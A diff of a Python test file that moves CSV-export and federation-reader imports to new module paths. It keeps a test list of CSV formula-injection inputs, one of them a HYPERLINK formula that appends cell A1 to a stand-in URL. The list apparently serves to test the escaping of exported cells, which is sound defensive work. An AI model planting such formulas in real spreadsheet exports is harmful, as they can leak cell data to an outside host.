@@ -12,10 +12,10 @@ import fulcrum
 from fulcrum.cli.app import run
 from fulcrum.csv_text import csv_text, plain_cell
 from fulcrum.errors import FederationError
-from fulcrum.federation.as_csv import federation_csv
-from fulcrum.federation.reading import read_federation, reading_of_bytes
-from fulcrum.federation.structure import Federation
-from fulcrum.planning.exporting import exported
+from fulcrum.planning.files.exports import exported
+from fulcrum.readers.federation import Federation
+from fulcrum.readers.federation_csv import federation_csv
+from fulcrum.readers.federation_reader import read_federation, reading_of_bytes
 
 SIGNS = "=+-@\t\r\n＝＋－＠"
 EVIL = ['=HYPERLINK("http://example.org?"&A1)', "+1", "-2+3", "@SUM(A1)", "'=x", "''+y", "＝1"]
